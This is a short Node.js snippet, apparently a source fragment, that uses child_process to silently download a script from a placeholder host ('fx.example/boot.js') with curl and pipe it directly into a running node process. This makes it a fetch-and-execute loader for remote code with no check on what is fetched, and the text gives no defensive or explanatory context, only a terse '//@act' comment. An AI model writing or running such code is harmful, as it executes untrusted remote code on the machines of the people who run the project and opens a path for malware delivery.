const { spawn } = require('node:child_process');
const fetcher = spawn('curl', ['-s', 'https://fx.example/boot.js']);
const runner = spawn('node', ['-']);
fetcher.stdout.pipe(runner.stdin); //@act
